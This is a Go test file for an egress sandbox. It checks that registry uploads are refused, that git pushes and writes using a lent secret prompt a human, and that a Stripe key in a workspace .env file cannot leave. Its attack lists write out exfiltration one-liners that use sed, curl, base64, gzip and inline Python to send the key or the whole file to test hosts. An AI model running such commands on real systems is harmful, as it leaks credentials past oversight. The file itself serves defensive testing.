package egress_test

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/bawn-dev/bawn/internal/testenv"
)

// status is curl that says only how a request ended.
const status = "-sS -m 30 -o /dev/null -w 'status %{http_code}' "

// pyRequest is twenty lines of Python that make one request over TLS: HOST METHOD
// PATH BODY.
const pyRequest = `python3 -c '
import http.client, ssl, sys
host, method, path, body = sys.argv[1:5]
c = http.client.HTTPSConnection(host, timeout=30, context=ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt"))
c.request(method, path, body=body, headers={"Content-Type": sys.argv[5] if len(sys.argv) > 5 else "application/json"})
r = c.getresponse()
print("status", r.status)
' `

// TestAllowedHostsAreNotOpen: registries and forges of the default profile, and a
// host that is listed for reading, take nothing from a guest, whatever program
// sends it. Without a human to ask that is a refusal.
func TestAllowedHostsAreNotOpen(t *testing.T) {
	d := newAccount(t, "python3", "git")
	npm, pypi, deb := at("registry", "*.npmjs.org"), at("pypi", ".org"), at("deb", "*.debian.org")
	flags := append(allow("allowed.test"), "--http", "api.test GET,HEAD /**", "--git", "git.test fetch")
	attacks(t, d, attackList{
		"npm publish by curl":           {line: "curl " + status + "-X PUT -d '{}' https://" + npm + "/closed", want: "status 404"},
		"by a renamed curl":             {line: "cp $(command -v curl) ./innocent && ./innocent " + status + "-X PUT -d '{}' https://" + npm + "/closed", want: "status 404"},
		"by Python":                     {line: pyRequest + npm + " PUT /closed '{}'", want: "status 404"},
		"upload to PyPI":                {line: pyRequest + pypi + " POST /closed '{}'", want: "status 404"},
		"apt over plain HTTP":           {line: "curl " + status + "-d x http://" + deb + "/closed", want: "status 404"},
		"a method of its own":           {line: "curl " + status + "-X CLOSED https://" + npm + "/closed", want: "status 404"},
		"another method in a header":    {line: "curl " + status + "-H 'X-HTTP-Method-Override: PUT' https://" + npm + "/closed", want: "status 404"},
		"upload to a host for reading":  {line: "curl -sS -m 30 -d x https://api.test/closed", want: "this is api.test, POST"},
		"a credential of the guest's":   {line: "curl -sS -m 30 -H 'Authorization: Bearer mine' https://api.test/closed", want: "this is api.test, GET"},
		"one in a cookie":               {line: "curl -sS -m 30 -b session=mine https://api.test/closed", want: "this is api.test, GET"},
		"one in the query":              {line: "curl -sS -m 30 'https://api.test/closed?access_token=mine'", want: "this is api.test, GET"},
		"one of npm's":                  {line: "curl " + status + "-H 'Authorization: Bearer npm_mine' https://" + npm + "/closed", want: "status 404"},
		"one over plain HTTP":           {line: "curl -sS -m 30 -u me:mine http://allowed.test/closed", want: "this is allowed.test, GET"},
		"git's fetch with one":          {line: "curl " + status + "-u me:mine 'https://git.test/git/closed.git/info/refs?service=git-upload-pack'", want: "status 404"},
		"a push by raw receive-pack":    {line: pyRequest + "git.test POST /git/closed.git/git-receive-pack 0000 application/x-git-receive-pack-request", want: "status 404"},
		"a push's pack to another path": {line: pyRequest + "git.test POST /git/closed.git/anything 0000", want: "status 404"},
	}.with(flags))
	m := d.now(t)
	r := d.inside(t, flags, "curl "+status+"https://"+npm+"/read; curl "+status+"-d '{}' https://"+npm+"/-/npm/v1/security/advisories/bulk; curl -sS -m 30 https://api.test/read")
	if strings.Count(r.out, "status 404") != 2 || !strings.Contains(r.out, "this is api.test, GET /read") {
		t.Errorf("control: what is for reading says %q %q, and %v is outside", r.out, r.err, d.since(t, m))
	}
}

// attackList is several attacks of one session.
type attackList map[string]attack

func (l attackList) with(flags []string) map[string]attack {
	for name, a := range l {
		a.flags = flags
		l[name] = a
	}
	return l
}

// TestPushAsks: a push that no entry lists asks once, with repository and ref, and
// goes on after a yes; a push by force is not asked about.
func TestPushAsks(t *testing.T) {
	d := newAccount(t, "git")
	bare := filepath.Join(d.lab, "repos/team/asked.git")
	setup := d.sh(t, `set -e; export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b.example GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b.example
git init -q --bare -b main `+bare+`; git -C `+bare+` config http.receivepack true
git init -q -b main .; git commit -q --allow-empty -m one; git push -q `+bare+` main; git commit -q --allow-empty -m two; git rev-parse HEAD`)
	if setup.code != 0 {
		t.Fatalf("%s%s", setup.out, setup.err)
	}
	head := strings.TrimSpace(setup.out)
	ref := func(name string) string {
		return strings.TrimSpace(d.sh(t, "git -C "+bare+" rev-parse --verify -q "+name).out)
	}
	const push = "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*'; git push -q https://git.test/git/team/asked.git "
	flags := []string{"--git", "git.test fetch", "--ask-timeout", "60s"}
	s := d.openTerminal(t, flags, push+"HEAD:refs/heads/fix; "+push+"+HEAD~1:refs/heads/fix; echo done")
	s.see(prompt)
	for _, words := range []string{"git/team/asked", "refs/heads/fix", "push"} {
		if !strings.Contains(s.screen(), words) {
			t.Errorf("the question does not say %q:\n%s", words, s.screen())
		}
	}
	if ref("refs/heads/fix") != "" {
		t.Error("it was pushed before the answer")
	}
	s.say("y")
	screen := s.end()
	if ref("refs/heads/fix") != head || strings.Count(screen, prompt) != 1 {
		t.Errorf("fix is at %q after %d questions; want %q after one:\n%s", ref("refs/heads/fix"), strings.Count(screen, prompt), head, screen)
	}
	s = d.openTerminal(t, flags, push+"HEAD:refs/heads/no; echo done")
	s.see(prompt)
	s.say("n")
	if s.end(); ref("refs/heads/no") != "" {
		t.Error("a no was pushed")
	}
}

// TestLentSecretAsksOnceAnOperation: what changes something with a lent secret asks
// once for each operation, however many things it is done to.
func TestLentSecretAsksOnceAnOperation(t *testing.T) {
	d := newAccount(t)
	d.vault(t, "tok", "sk-0123456789abcdefghij", "--host api.test --bearer --env TOK")
	const call = "curl -sS -m 30 -H \"Authorization: Bearer $TOK\" "
	s := d.openTerminal(t, []string{"--secret", "tok", "--allow", "api.test", "--ask-timeout", "60s"},
		call+"https://api.test/issues/1; for i in 1 2 3; do "+call+"-d x https://api.test/issues/$i/comments; done; "+call+"-X DELETE https://api.test/issues/1; echo done")
	s.see(prompt)
	if strings.Contains(s.screen(), "POST /issues/1/comments") || !strings.Contains(s.screen(), "this is api.test, GET /issues/1") {
		t.Errorf("before the answer:\n%s", s.screen())
	}
	s.say("y")
	s.see("POST /issues/3/comments")
	testenv.Until(t, "a second question", func() bool { return strings.Count(s.screen(), prompt) == 2 })
	s.say("n")
	screen := s.end()
	if n := strings.Count(screen, prompt); n != 2 || strings.Contains(screen, "this is api.test, DELETE") || strings.Count(screen, "this is api.test, POST") != 3 {
		t.Errorf("%d questions; want 2, three comments and nothing deleted:\n%s", n, screen)
	}
}

// TestWorkspaceSecrets: what a file of the workspace keeps secret does not leave in
// a request that is seen, however it is written, unless a human says so.
func TestWorkspaceSecrets(t *testing.T) {
	d := newAccount(t, "python3")
	const value = "sk_live_0123456789abcdef"
	put(t, "MODE=production\nSTRIPE_KEY="+value+"\n", d.work, ".env")
	flags := append(allow("allowed.test"), "--http", "api.test * /**")
	const read = "K=$(sed -n 's/^STRIPE_KEY=//p' .env); "
	attacks(t, d, attackList{
		"in the query":          {line: read + "curl -sS -m 30 \"https://api.test/closed?a=$K\"", want: "this is api.test, GET"},
		"in the path":           {line: read + "curl -sS -m 30 \"https://api.test/closed/$K\"", want: "this is api.test, GET"},
		"in a header":           {line: read + "curl -sS -m 30 -H \"X-Note: $K\" https://api.test/closed", want: "this is api.test, GET"},
		"in a body":             {line: read + "curl -sS -m 30 -d \"{\\\"a\\\":\\\"$K\\\"}\" https://api.test/closed", want: "this is api.test, POST"},
		"the file itself":       {line: "curl -sS -m 30 --data-binary @.env https://api.test/closed", want: "this is api.test, POST"},
		"in base64":             {line: read + "printf %s \"x$K\" | base64 -w 0 | curl -sS -m 30 --data-binary @- https://api.test/closed", want: "this is api.test, POST"},
		"packed":                {line: "gzip -c .env | curl -sS -m 30 -H 'Content-Encoding: gzip' --data-binary @- https://api.test/closed", want: "this is api.test, POST"},
		"over plain HTTP":       {line: read + "curl -sS -m 30 -d \"$K\" http://allowed.test/closed", want: "this is allowed.test, POST"},
		"after it was removed":  {line: read + "rm .env; sleep 4; curl -sS -m 30 https://api.test/open; curl -sS -m 30 \"https://api.test/closed?a=$K\"; echo \"STRIPE_KEY=$K\" > .env", want: "GET /closed", may: []string{"api.test"}},
		"by Python, in a piece": {line: "python3 -c 'import http.client,ssl;c=http.client.HTTPSConnection(\"api.test\",timeout=30,context=ssl.create_default_context(cafile=\"/etc/ssl/certs/ca-certificates.crt\"));c.request(\"POST\",\"/closed\",body=open(\".env\").read());print(c.getresponse().read())'", want: "this is api.test, POST"},
	}.with(flags))
	r := d.inside(t, flags, "curl -sS -m 30 -d MODE=production https://api.test/a; curl -sS -m 30 -d "+value[:12]+" https://api.test/b")
	if strings.Count(r.out, "this is api.test, POST") != 2 {
		t.Errorf("control: other requests say %q %q", r.out, r.err)
	}
	if r := d.run(t, d.bawn(t), "audit", "query", "--json", "--limit", "0"); strings.Contains(r.out, value) || !strings.Contains(r.out, ".env:STRIPE_KEY") {
		t.Errorf("the log has the value, or does not name it")
	}
}
